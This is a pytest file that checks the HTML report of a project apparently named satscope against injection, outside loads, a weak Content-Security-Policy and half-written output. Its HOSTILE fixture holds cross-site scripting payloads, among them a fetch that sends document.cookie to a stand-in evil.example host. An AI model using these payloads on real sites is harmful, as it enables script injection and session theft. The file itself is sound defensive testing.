"""The HTML report as an attack surface, without a browser: hostile run text stays text, the page
loads nothing from outside, its CSP allows exactly its own inline scripts, and an interrupted write
never leaves a half-written page.

tests/reports/test_html_browser.py checks the same page in headless Chromium where one exists
(an injected script does not run, the CSP blocks a foreign one); these checks run everywhere.
"""

from __future__ import annotations

import base64
import hashlib
import os
import re
import signal
import subprocess
import sys
import textwrap
from html.parser import HTMLParser
from pathlib import Path

import pytest

from satscope.reports import build_report
from satscope.reports._synthetic import SyntheticRun, write_synthetic_run
from tests.reliability._targets import ROOT

HOSTILE = {
    "model": '"><script src="https://evil.example/x.js"></script><style>@import url(https://evil.example/c.css)</style>',
    "error_text": "</script><script>fetch('https://evil.example/'+document.cookie)</script>"
    "<img src=x onerror=alert(1)>",
    "prompt_text": "<iframe src=//evil.example></iframe><link rel=stylesheet href=https://evil.example/s.css>",
}
URL_ATTRS = {"src", "href", "action", "srcset", "data", "poster", "formaction", "xlink:href", "background"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self._in_script: dict[str, str | None] | None = None
        self._text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self._in_script, self._text = dict(attrs), []

    def handle_data(self, data: str) -> None:
        if self._in_script is not None:
            self._text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._in_script is not None:
            self.scripts.append((self._in_script, "".join(self._text)))
            self._in_script = None


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_synthetic_run(tmp_path_factory.mktemp("run"), SyntheticRun(kind="errors", **HOSTILE))


@pytest.fixture(scope="module")
def page(hostile_run: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, _Tags]:
    html = build_report(hostile_run, out=tmp_path_factory.mktemp("out") / "report.html").html_path.read_text()
    parser = _Tags()
    parser.feed(html)
    return html, parser


def test_hostile_run_text_adds_no_element(page: tuple[str, _Tags]) -> None:
    _, parsed = page
    names = [t for t, _ in parsed.tags]
    assert names.count("script") == 3  # plotly, the JSON data block, the page's own code
    assert names.count("style") == 1  # the page's own
    for tag in ("iframe", "img", "link", "object", "embed", "base", "form"):
        assert tag not in names, tag
    assert all(not k.startswith("on") for _, attrs in parsed.tags for k in attrs)


def test_the_page_loads_nothing_from_outside(page: tuple[str, _Tags]) -> None:
    html, parsed = page
    for tag, attrs in parsed.tags:
        for name, value in attrs.items():
            if name in URL_ATTRS and value is not None:
                assert value.startswith(("#", "data:")), (tag, name, value)
    assert not any(attrs.get("src") for attrs, _ in parsed.scripts)  # every script is inline
    styles = re.findall(r"<style[^>]*>(.*?)</style>", html, flags=re.S)
    assert len(styles) == 1 and "@import" not in styles[0] and "url(" not in styles[0]
    # The hostile URLs are only ever text: escaped in HTML, \u-escaped inside the JSON block.
    for raw in ("<iframe", "<link", "<style>@import", "<img", "<script src="):
        assert raw not in html, raw


def test_csp_allows_exactly_the_pages_own_inline_scripts(page: tuple[str, _Tags]) -> None:
    _, parsed = page
    metas = [
        a for t, a in parsed.tags if t == "meta" and (a.get("http-equiv") or "").lower() == "content-security-policy"
    ]
    assert len(metas) == 1
    policy = dict(
        (part.split()[0], part.split()[1:]) for part in (metas[0]["content"] or "").split(";") if part.strip()
    )
    assert policy["default-src"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"] and policy["form-action"] == ["'none'"]
    for directive, sources in policy.items():
        for source in sources:  # no host, scheme or wildcard may load anything; data:/blob: only for images/fonts
            assert not re.match(r"^(https?:|\*|'unsafe-eval'|'strict-dynamic')", source), (directive, source)
            if source in ("data:", "blob:"):
                assert directive in ("img-src", "font-src"), (directive, source)
    executable = [text for attrs, text in parsed.scripts if attrs.get("type") != "application/json"]
    hashes = {"'sha256-" + base64.b64encode(hashlib.sha256(t.encode()).digest()).decode() + "'" for t in executable}
    assert len(executable) == 2 and set(policy["script-src"]) == hashes


_KILL_MID_WRITE = textwrap.dedent("""
    import os, sys, time
    import satscope.run_format as rf
    from satscope.reports import build_report
    real_fsync = os.fsync
    def slow_fsync(fd):  # the temp file holds the new page: stall here until killed
        if os.fstat(fd).st_size > 100_000:
            print("writing", flush=True)
            time.sleep(60)
        real_fsync(fd)
    rf.os.fsync = slow_fsync
    build_report(sys.argv[1], out=sys.argv[2])
""")


def test_a_report_write_killed_midway_leaves_the_previous_page(hostile_run: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    out.write_text("<!doctype html><html><body>previous report</body></html>")
    proc = subprocess.Popen(
        [sys.executable, "-c", _KILL_MID_WRITE, str(hostile_run), str(out)],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    try:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "writing"
        proc.send_signal(signal.SIGKILL)
    finally:
        proc.wait(30)
    assert out.read_text() == "<!doctype html><html><body>previous report</body></html>"
    leftovers = [p for p in tmp_path.iterdir() if p != out]
    assert all(p.stat().st_size > 100_000 for p in leftovers)  # at most the killed writer's temp file


def test_a_report_write_interrupted_in_process_leaves_no_temp_file(
    hostile_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import satscope.run_format as rf

    out = tmp_path / "report.html"

    real_replace = os.replace

    def interrupted(src: str, dst: str) -> None:
        if str(dst).endswith(".html"):
            raise KeyboardInterrupt  # Ctrl-C between writing the temp page and renaming it
        real_replace(src, dst)

    monkeypatch.setattr(rf.os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        build_report(hostile_run, out=out)
    assert list(tmp_path.iterdir()) == []  # no page, no half page, no temp file
